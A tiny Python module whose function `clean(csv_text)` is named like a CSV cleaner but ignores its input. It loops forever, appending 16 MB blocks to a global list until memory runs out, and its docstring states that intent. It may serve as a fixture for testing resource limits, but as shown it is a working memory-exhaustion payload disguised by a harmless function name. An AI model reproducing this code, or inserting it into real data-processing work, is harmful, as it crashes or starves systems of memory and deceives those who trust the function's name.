"""Takes memory until there is none; every page is written to."""

HOARD = []


def clean(csv_text: str) -> str:
    while True:
        HOARD.append(b"x" * (16 * 1024 * 1024))
